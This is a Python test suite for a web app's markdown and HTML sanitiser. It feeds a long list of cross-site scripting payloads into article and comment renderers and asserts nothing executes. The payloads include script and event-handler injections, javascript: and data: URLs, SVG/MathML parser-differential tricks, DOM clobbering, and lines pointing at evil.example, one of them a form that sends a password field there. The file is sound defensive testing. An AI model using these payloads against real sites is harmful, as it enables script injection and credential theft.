"""Nothing that a writer sends runs in a reader's browser."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.content.markup import render_article, render_comment
from app.content.sanitising import sanitised_article
from tests.support.examples import examples
from tests.support.html import dangers, elements

ATTACKS = [
    # Scripts and what loads them
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "</textarea></title></style><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'><meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onloadstart=alert(1)>",
    '![x](x "onerror=alert(1)")',
    '![x" onerror="alert(1)](x)',
    "[x](https://example.com \"x' onclick='alert(1)\")",
    '```py" onmouseover="alert(1)\nx\n```',
    # Addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='jav&NewLine;ascript&colon;alert(1)'>x</a>",
    "<a href='blob:https://example.com/x'>x</a><a href='file:///etc/passwd'>x</a>",
    "<img src='data:text/html,x'><video poster='javascript:alert(1)' src='javascript:alert(1)'></video>",
    "<picture><source srcset='javascript:alert(1)'><img srcset='a.png 1x, javascript:alert(1) 2x'></picture>",
    "<img srcset='javascript:alert(1),a.png 2x'><img srcset='a.png 1x,java\tscript:alert(1)'>",
    "<img srcset=',,\x01javascript:alert(1) 1x,data:image/svg+xml,x 2x'>",
    "<video autoplay src=a.mp4></video><audio autoplay src=a.mp3></audio>",
    "https://example.com/'onmouseover='alert(1)",
    'www.example.com/"onmouseover="alert(1)',
    "javascript://www.example.com/%0aalert(1)",
    # SVG, MathML and parser differences
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><img src=x onerror=alert(1)></template>",
    # Style, forms and clobbering
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</p>",
    "<td style='text-align:left;position:fixed'>x</td>",
    "<table><tr><td style='text-align:left;background:url(//evil.example)'>x</td></tr></table>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "# Location\n\n<a name=config href=https://evil.example>x</a>",
    "<a id=location href=#>x</a><img name=body src=x><div id=__proto__>x</div>",
    "<a href=# target=_blank ping=https://evil.example>x</a>",
    "<p class='modal admin-bar' is=x-evil slot=y>x</p>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_an_article_executes(attack: str) -> None:
    assert dangers(render_article(attack).html) == []
    assert dangers(render_article(f"> - {attack}\n\n[^1]: {attack}\n\nx[^1]").html) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_comment_executes(attack: str) -> None:
    html = render_comment(attack)

    assert dangers(html) == []
    assert {tag for tag, _ in elements(html)} <= {"p", "a", "br", "strong", "pre", "code", "blockquote"}


@examples(100)
@given(st.lists(st.sampled_from([*ATTACKS, "\n", " ", "`", "<", ">", '"', "'", "|", "[", "](", ")"]), max_size=6))
def test_attacks_are_not_stronger_together(attacks: list[str]) -> None:
    assert dangers(render_article("".join(attacks)).html) == []
    assert dangers(render_comment("".join(attacks))) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_browser_reads_the_result_as_it_was_meant(attack: str) -> None:
    html = render_article(attack).html
    parsed = sanitised_article(html)

    # Parsed as HTML5 and written once more: where the two differ, a browser sees something that was not checked.
    assert elements(parsed) == elements(html)
    assert len(parsed) == len(html)


def test_the_danger_finder_finds_dangers() -> None:
    for html in (
        "<script>",
        "<svg>",
        "<b onclick='x'>",
        "<a href='java\tscript:x'>",
        "<p id='location'>",
        "<td style='position:fixed'>",
        "<img srcset='a.png 1x, javascript:x 2x'>",
        "<img src='mailto:x'>",
    ):
        assert dangers(html), html
    assert dangers('<p id="user-content-fn1"><a href="https://example.com">x</a><a href="/a:b">y</a></p>') == []


# Every attribute that HTML has known whose value is an address, or a list of them.
_ADDRESSES = (
    *("action", "archive", "background", "cite", "classid", "codebase", "data", "dynsrc", "formaction", "href", "icon"),
    *("imagesrcset", "longdesc", "lowsrc", "manifest", "ping", "poster", "profile", "src", "srcset", "usemap"),
    "xlink:href",
)
_ELEMENTS = ("a", "area", "audio", "blockquote", "body", "del", "div", "img", "input", "q", "source", "track", "video")


@pytest.mark.parametrize("attribute", _ADDRESSES)
@pytest.mark.parametrize("scheme", ["javascript", "vbscript", "data", "JaVa\tScript", "\x01javascript", "file", "blob"])
def test_no_attribute_keeps_an_address_that_executes(attribute: str, scheme: str) -> None:
    for element in _ELEMENTS:
        html = render_article(f'<{element} {attribute}="{scheme}:alert(1)">x</{element}>').html
        assert "alert" not in html, html
